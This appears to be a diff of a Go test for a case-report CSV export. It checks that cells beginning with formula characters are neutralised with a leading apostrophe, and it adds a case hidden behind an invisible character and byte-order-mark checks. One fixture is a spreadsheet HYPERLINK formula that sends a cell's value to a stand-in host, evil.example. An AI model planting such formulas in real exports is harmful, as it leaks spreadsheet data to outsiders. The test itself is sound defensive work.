@@ -214,6 +214,7 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	for _, one := range []object{
 		{"subject": formula, "description": "x", "custom_tag": "@SUM(1+1)"}, {"subject": "Café, \"quoted\" 東京", "description": "x", "severity": 1}, {"subject": "+1 555 0100", "description": "x"},
+		{"subject": "\u2060=1+1", "description": "x"},
 	} {
 		w.customer.post(org+"/cases", one)
 	}
@@ -224,11 +225,15 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 		asked := text(c.post(scope+"/reports?"+query, nil).object(t), "id")
 		link := text(w.ended(c, scope+"/reports/"+asked), "content_url")
 		got := newClient(t, w.installation).send("GET", link, "", nil)
-		if got.status != 200 || !strings.HasPrefix(got.header.Get("Content-Type"), "text/csv") ||
+		if got.status != 200 || got.header.Get("Content-Type") != "text/csv; charset=utf-8" ||
 			!strings.Contains(got.header.Get("Content-Disposition"), "cases.csv") {
 			t.Fatalf("the report: %d %v", got.status, got.header)
 		}
-		reader := csv.NewReader(strings.NewReader(string(got.body)))
+		content, marked := strings.CutPrefix(string(got.body), "\ufeff")
+		if marked == strings.Contains(query, "byte_order_mark=false") {
+			t.Errorf("the report %q begins with a byte order mark: %t", query, marked)
+		}
+		reader := csv.NewReader(strings.NewReader(content))
 		reader.Comma = comma
 		read, err := reader.ReadAll()
 		if err != nil {
@@ -237,10 +242,10 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 		return read
 	}
 	all := rows(w.customer, org, "", ',')
-	if len(all) != 4 || all[0][0] != "number" || all[0][1] != "subject" {
+	if len(all) != 5 || all[0][0] != "number" || all[0][1] != "subject" {
 		t.Fatalf("the report is %q", all)
 	}
-	for _, want := range [][2]string{{"'" + formula, "'@SUM(1+1)"}, {"Café, \"quoted\" 東京", ""}, {"'+1 555 0100", ""}} {
+	for _, want := range [][2]string{{"'" + formula, "'@SUM(1+1)"}, {"Café, \"quoted\" 東京", ""}, {"'+1 555 0100", ""}, {"'\u2060=1+1", ""}} {
 		found := false
 		for _, row := range all[1:] {
 			found = found || row[1] == want[0] && row[9] == want[1]
@@ -249,7 +254,7 @@ func TestAReportIsFetchedByItsLinkAndHasNoFormulas(t *testing.T) {
 			t.Errorf("no row has %q in %q", want, all)
 		}
 	}
-	if got := rows(w.customer, org, "severity=1&separator=%3B", ';'); len(got) != 2 || got[1][3] != "1" {
+	if got := rows(w.customer, org, "severity=1&separator=%3B&byte_order_mark=false", ';'); len(got) != 2 || got[1][3] != "1" {
 		t.Errorf("the filtered report is %q", got)
 	}
 	if got := rows(
